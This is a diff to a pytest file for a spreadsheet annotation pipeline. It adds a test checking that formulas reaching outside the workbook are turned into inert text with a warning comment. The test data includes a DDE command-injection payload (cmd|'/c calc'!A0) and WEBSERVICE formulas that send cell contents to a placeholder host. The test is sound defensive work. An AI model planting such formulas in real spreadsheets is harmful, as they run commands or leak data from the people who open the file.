@@ -10,6 +10,7 @@ import zipfile
 from pathlib import Path
 
 import pytest
+import xlsxwriter
 from returns_example import (
     HEAD,
     HIDDEN,
@@ -29,6 +30,7 @@ from pipeline.returns import annotate
 from pipeline.returns.comments import AUTHOR
 from pipeline.returns.listing import Head
 from pipeline.returns.markup import CannotEdit
+from pipeline.returns.package import Package
 from pipeline.returns.resubmission import Tracked
 from pipeline.returns.styles import FILLS
 
@@ -137,6 +139,49 @@ def test_the_list_stands_first_with_links_counts_and_legend(marked: bytes) -> No
     } | {"'O''Brien! trang 2'!B3", f"'{HIDDEN}'!A1"}  # fmt: skip
     where = {c.value: links.get(c.coordinate) for c in sheet["C"] if c.coordinate in links}
     assert where[f"{OTHER}!B3"] == "'O''Brien! trang 2'!B3" and f"{HIDDEN} (trang ẩn)!A1" in where
+
+
+LIVE = {
+    "G4": 'WEBSERVICE("http://x/"&A4)',
+    "G5": 'HYPERLINK("http://x","bấm")',
+    "G6": "cmd|'/c calc'!A0",
+    "G7": "[1]Sheet1!A1*2",
+    "G8": "'D:\\a\\[b c.xlsx]Trang 1'!B2",
+}
+OWN = {"H4": "SUM(D4:D9)", "H5": 'HYPERLINK("#A1","lên")', "H6": "Table1[Số]+'Số (2)'!B3", "H7": 'IF(A4="a|b",1,2)'}
+
+
+def test_a_formula_that_reaches_out_goes_back_as_text_beside_a_note() -> None:
+    stream = io.BytesIO()
+    with xlsxwriter.Workbook(stream, {"in_memory": True}) as book:
+        sheet = book.add_worksheet(MAIN)
+        sheet.write("C5", "?")
+        look = book.add_format({"bold": True})
+        for at, formula in {**LIVE, **OWN}.items():
+            sheet.write_formula(at, f"={formula}", look, 7)
+        sheet.write_formula("G9", '=WEBSERVICE("http://x/"&A9)', look, 7)
+    package = Package(stream.getvalue())
+    name = "xl/worksheets/sheet1.xml"
+    text = package.read(name).decode()
+    first, second = (f'<f>_xlfn.WEBSERVICE("http://x/"&amp;A{n})</f>' for n in (4, 9))
+    first, second = (f if f in text else f.replace("_xlfn.", "") for f in (first, second))
+    text = text.replace(first, first.replace("<f>", '<f t="shared" ref="G4:G9" si="0">'))
+    package.put(name, text.replace(second, '<f t="shared" si="0"/>').encode())
+    package.put(
+        "xl/calcChain.xml",
+        b'<calcChain xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><c r="G4" i="1"/></calcChain>',
+    )
+    package.relate("xl/workbook.xml", "calcChain", "xl/calcChain.xml")
+    package.declare("xl/calcChain.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml")
+    made, _ = annotate.mark(package.to_bytes(), tracked(issue("C5")), HEAD)
+    there = opened(made)[MAIN]
+    for at, formula in LIVE.items():
+        cell = there[at]
+        assert cell.data_type == "s" and cell.value.replace("_xlfn.", "") == f"={formula}", at
+        assert "ngoài tệp" in cell.comment.text and cell.font.bold
+    assert there["G9"].data_type == "s" and there["G9"].comment is not None  # one formula shared by two cells
+    assert {at: there[at].value.lstrip("=") for at in OWN} == OWN and not any(there[at].comment for at in OWN)
+    assert not any("calcChain" in str(part) for pair in parts(made).items() for part in pair)
 
 
 def test_nothing_a_sender_typed_becomes_a_formula() -> None:
